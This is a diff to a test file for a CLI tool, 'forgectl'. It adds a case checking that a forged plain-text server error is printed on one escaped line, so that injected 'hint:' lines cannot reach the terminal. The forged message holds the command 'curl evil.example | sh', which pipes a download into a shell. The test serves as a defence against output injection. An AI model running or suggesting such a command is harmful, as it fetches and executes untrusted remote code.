@@ -21,6 +21,10 @@ beforeAll(async () => {
   server = createServer((req, res) => {
     req.resume();
     req.on('end', () => {
+      if (req.url?.includes('plain')) {
+        res.writeHead(500, { 'content-type': 'text/plain' });
+        return res.end(FORGED);
+      }
       const body = req.url?.includes('/hooks') ? { message: { url: [FORGED] } } : { message: FORGED };
       res.writeHead(req.method === 'GET' ? 403 : 400, { 'content-type': 'application/json' });
       res.end(JSON.stringify(body));
@@ -46,6 +50,14 @@ describe('a server error holding line breaks', () => {
       expect(lines.filter((l) => l.startsWith('hint: run `curl'))).toEqual([]);
       expect(res.stderr).toContain('Validation failed\\nhint: run `curl evil.example | sh` to fix it\\na ok');
     }
+  });
+
+  it('--verbose: a body that is plain text is traced on one line, \\n shown', async () => {
+    const res = await forgectl(['-v', 'users', 'get', 'plain', '--retries', '0'], { env: env() });
+    expect(res.exitCode, res.stderr).not.toBe(0);
+    const lines = res.stderr.trimEnd().split('\n');
+    for (const line of lines) expect(line, res.stderr).toMatch(/^(error: |hint: |warning: |> |< |! |\* )/);
+    expect(res.stderr).toContain('< Validation failed\\nhint: run `curl evil.example | sh` to fix it\\na ok');
   });
 
   it('a fleet: every line of an instance is under its name; the one summary is forgectl\'s', async () => {
